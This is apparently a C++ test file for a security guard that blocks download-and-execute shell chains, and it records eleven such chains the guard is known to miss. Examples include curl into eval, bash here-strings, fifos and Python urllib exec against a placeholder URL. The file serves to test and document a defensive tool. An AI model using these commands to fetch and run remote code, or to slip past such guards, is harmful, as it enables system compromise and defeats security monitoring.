// What docs/limits.md says is not caught, shown: each of these runs code from the network, in kill
// mode, unseen. A case that is caught one day fails here, and moves to the attacks.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "chain_site.h"

namespace davylamp::test {
namespace {

using testing::IsEmpty;

struct Limit {
    const char* name;
    const char* command;
};

void PrintTo(const Limit& limit, std::ostream* stream) { *stream << limit.name; }

const Limit kLimits[] = {
    {"the text of an argument", "bash -c \"$(curl -s @URL)\""},
    {"eval", "eval \"$(curl -s @URL)\""},
    {"a here string", "bash <<< \"$(curl -s @URL)\""},
    {"source in a running shell", "source <(curl -s @URL)"},
    {"while read and eval", "curl -s @URL | while read -r line; do eval \"$line\"; done"},
    {"a file in between", "curl -s -o @D/file @URL; bash @D/file"},
    {"an interpreter that fetches",
     "/usr/bin/python3 -c 'import urllib.request as u; exec(u.urlopen(\"@PYTHON_URL\").read())'"},
    {"a fifo by path", "mkfifo @D/fifo; curl -s @URL > @D/fifo & bash @D/fifo"},
    {"a pipe of the downloader's own",
     "/usr/bin/python3 -c 'import subprocess, urllib.request as u; "
     "subprocess.run([\"bash\"], input=u.urlopen(\"@URL\").read())'"},
    {"a relay that does not exec",
     "curl -s @URL | while read -r line; do echo \"$line\"; done | bash"},
    {"code read by the text of an argument", "curl -s @URL | bash -c 'eval \"$(cat)\"'"},
};

class ChainLimit : public testing::TestWithParam<Limit> {};

TEST_P(ChainLimit, IsNotSeen)
{
    ChainSite site;
    GuardResult result = run_guard(Mode::kill, site.fill(GetParam().command));
    EXPECT_TRUE(exists(site.marker())) << "the code did not run: " << result.err;
    EXPECT_THAT(result.codes(), IsEmpty()) << result.out;
}

INSTANTIATE_TEST_SUITE_P(Live, ChainLimit, testing::ValuesIn(kLimits),
                         [](const auto& test) { return test_name(test.param.name, Mode::kill); });

} // namespace
} // namespace davylamp::test
